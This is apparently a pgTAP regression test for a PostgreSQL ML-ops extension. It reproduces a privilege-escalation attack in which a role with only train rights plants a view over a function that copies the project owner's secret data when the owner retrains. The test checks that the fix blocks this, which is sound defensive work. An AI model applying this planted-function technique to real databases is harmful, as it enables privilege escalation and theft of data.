-- Attack: a role granted only "train" on a project makes the project's
-- owner run code of its choosing.  Every training, including a grantee's
-- with deploy => 'never', sets mlops.projects.relation; mlops.retrain (and
-- a scheduled job with retrain => true) later reads that relation as the
-- role that retrains, normally the owner.  A view over a function planted
-- by the trainer then runs that function with the owner's rights.
-- Expected once fixed: the owner's retrain never runs the trainer's code
-- (the relation retrained on is one the owner chose, or retrain refuses).
\set ON_ERROR_STOP 1
SET client_min_messages = warning;
BEGIN;
SELECT plan(4);

CREATE ROLE atk_owner;
CREATE ROLE atk_trainer;
GRANT CREATE ON SCHEMA public TO atk_trainer;

CREATE TABLE atk_t AS
SELECT i AS id, (i % 53) / 5.0 AS x1, ((i * 7) % 41) / 4.0 AS x2,
       3 + 2 * ((i % 53) / 5.0) - ((i * 7) % 41) / 4.0 + 0.01 * sin(i) AS y
  FROM generate_series(1, 2000) i;
-- the live data has drifted far away
CREATE TABLE atk_live AS
SELECT id, x1 + 100 AS x1, x2 + 100 AS x2, y + 100 AS y FROM atk_t;
GRANT SELECT ON atk_t, atk_live TO atk_owner, atk_trainer;

-- the owner's own secret, which the trainer cannot read
CREATE TABLE atk_owner_secret (s text);
INSERT INTO atk_owner_secret VALUES ('owner-only');
ALTER TABLE atk_owner_secret OWNER TO atk_owner;

SET ROLE atk_owner;
SELECT version FROM mlops.train('atk_p', 'atk_t', 'y', features => ARRAY['x1', 'x2']);
SELECT mlops.grant('atk_p', 'atk_trainer', 'train');
RESET ROLE;

-- the trainer plants a view whose function records who runs it, and copies
-- whatever that role can read
SET ROLE atk_trainer;
CREATE TABLE public.atk_loot (who text, what text);
GRANT INSERT ON public.atk_loot TO PUBLIC;
CREATE FUNCTION public.atk_steal() RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
    INSERT INTO public.atk_loot VALUES (current_user, NULL);
    IF current_user = 'atk_owner' THEN
        INSERT INTO public.atk_loot SELECT current_user, s FROM public.atk_owner_secret;
    END IF;
    RETURN true;
END $f$;
CREATE VIEW public.atk_v AS SELECT id, x1, x2, y FROM public.atk_t WHERE public.atk_steal();
GRANT SELECT ON public.atk_v TO PUBLIC;
-- train (never deploying) on the planted view: the project now points at it
SELECT version FROM mlops.train('atk_p', 'public.atk_v', 'y', features => ARRAY['x1', 'x2'],
                                deploy => 'never');
-- a drift check (train privilege) queues a retrain
SELECT verdict FROM mlops.check_drift('atk_p', 'atk_live');
RESET ROLE;

SELECT is((SELECT relation FROM mlops.projects WHERE name = 'atk_p'), 'public.atk_t',
          'a grantee''s training (deploy => never) does not repoint the project''s retrain relation');
SELECT is((SELECT count(*) FROM mlops.retrain_queue WHERE project = 'atk_p' AND status = 'queued'),
          1::bigint, 'the trainer''s drift check queued a retrain');

-- the owner runs the queued retrain, as the closed loop (or its job) does
SET ROLE atk_owner;
SELECT status FROM mlops.retrain('atk_p');
RESET ROLE;

SELECT is((SELECT count(*) FROM public.atk_loot WHERE who = 'atk_owner'), 0::bigint,
          'the owner''s retrain runs no function planted by a train grantee');
SELECT is((SELECT count(*) FROM public.atk_loot WHERE what = 'owner-only'), 0::bigint,
          'the train grantee obtains none of the owner''s data');

SELECT 1 AS server_up;
SELECT * FROM finish();
ROLLBACK;
